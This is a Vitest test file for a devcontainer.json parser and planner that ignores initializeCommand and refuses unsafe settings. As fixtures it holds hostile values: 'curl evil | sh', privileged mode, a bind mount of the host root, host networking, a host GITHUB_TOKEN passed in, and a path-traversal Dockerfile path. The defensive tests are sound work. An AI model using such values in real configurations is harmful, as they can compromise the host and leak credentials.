import { describe, expect, it } from 'vitest';
import { parseJsonc, planDevcontainer } from '../../src/domain/devcontainer.js';

describe('devcontainer.json', () => {
  it('reads JSON with comments and trailing commas, strings left alone', () => {
    expect(parseJsonc('{\n // c\n "a": "x // not a comment", /* b */ "b": [1,2,],\n}')).toEqual({ a: 'x // not a comment', b: [1, 2] });
  });

  it('takes image or build, containerEnv and postCreateCommand; ignores the rest with notes', () => {
    const result = planDevcontainer(
      {
        build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } },
        containerEnv: { MODE: 'dev' },
        postCreateCommand: 'make setup',
        forwardPorts: [3000],
        initializeCommand: 'curl evil | sh',
      },
      '.devcontainer',
    );
    expect('plan' in result && result.plan).toMatchObject({
      build: { dockerfile: '.devcontainer/Dockerfile', context: '', args: { V: '1' } },
      containerEnv: { MODE: 'dev' },
      postCreateCommand: ['sh', '-c', 'make setup'],
    });
    expect('plan' in result && result.plan.notes.join('\n')).toMatch(/initializeCommand ignored.*never runs.*host/);
  });

  it.each([
    [{ image: 'x', privileged: true }, /privileged/],
    [{ image: 'x', capAdd: ['SYS_ADMIN'] }, /capAdd/],
    [{ image: 'x', runArgs: ['--network=host'] }, /runArgs/],
    [{ image: 'x', mounts: ['source=/,target=/host,type=bind'] }, /mounts/],
    [{ image: 'x', features: { 'ghcr.io/devcontainers/features/node:1': {} } }, /registry: unsupported offline/],
    [{ image: 'x', containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}' } }, /host's environment/],
    [{ build: { dockerfile: '../../etc/Dockerfile' } }, /inside the repository/],
    [{}, /neither an image nor a build/],
  ])('refuses %j', (json, message) => {
    const result = planDevcontainer(json, '.devcontainer');
    expect('refused' in result && result.refused.join('\n')).toMatch(message);
  });
});
